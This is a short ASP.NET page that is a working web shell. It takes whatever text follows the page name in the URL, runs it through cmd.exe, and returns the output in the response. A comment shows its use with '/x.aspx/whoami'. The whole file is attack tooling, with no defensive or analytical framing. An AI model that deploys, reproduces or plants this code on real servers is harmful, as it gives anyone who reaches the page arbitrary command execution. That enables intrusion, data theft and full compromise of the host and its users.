<%@ Page Language="C#" %>
<%-- The command rides after the page's name: /x.aspx/whoami --%>
<%
var cmd = Request.PathInfo.TrimStart('/');
if (cmd != "") {
    var proc = new System.Diagnostics.Process();
    proc.StartInfo.FileName = "cmd.exe";
    proc.StartInfo.Arguments = "/c " + Request.PathInfo.TrimStart('/');
    proc.StartInfo.UseShellExecute = false;
    proc.StartInfo.RedirectStandardOutput = true;
    proc.Start();
    Response.Write(proc.StandardOutput.ReadToEnd());
}
%>
